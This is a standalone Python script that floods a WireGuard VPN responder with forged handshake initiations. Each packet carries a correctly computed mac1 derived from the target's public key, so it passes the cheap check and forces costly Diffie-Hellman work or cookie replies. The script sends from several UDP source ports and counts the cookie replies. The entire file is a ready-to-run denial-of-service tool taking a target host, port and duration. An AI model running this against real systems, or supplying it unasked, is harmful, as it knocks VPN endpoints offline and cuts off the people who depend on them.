#!/usr/bin/env python3
"""A WireGuard handshake flood: initiations whose mac1 is valid for the responder's public key
(so they pass the cheap check and cost the responder its Diffie-Hellman work, or a cookie reply
once it is under load) but whose contents are random (no peer's key).

usage: wg-flood.py RESPONDER_PUBKEY_BASE64 HOST PORT SECONDS [SOURCE_PORTS]
Prints the initiations sent and how many cookie replies came back.
"""
import base64, hashlib, os, socket, sys, time

pub = base64.b64decode(sys.argv[1])
host, port, secs = sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
nsrc = int(sys.argv[5]) if len(sys.argv) > 5 else 8
mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
socks = []
for _ in range(nsrc):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect((host, port))
    socks.append(s)
# A pool of distinct initiations (random ephemeral, static and timestamp fields).
pool = []
for i in range(4096):
    body = (1).to_bytes(4, "little") + os.urandom(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    pool.append(body + mac1 + bytes(16))
sent = cookies = 0
end = time.monotonic() + secs
i = 0
while time.monotonic() < end:
    for _ in range(256):
        s = socks[i % nsrc]
        try:
            s.send(pool[i % len(pool)])
            sent += 1
        except BlockingIOError:
            pass
        i += 1
    for s in socks:
        while True:
            try:
                d = s.recv(2048)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if d[:1] == b"\x03":
                cookies += 1
print(f"sent {sent} cookies {cookies} secs {secs}")
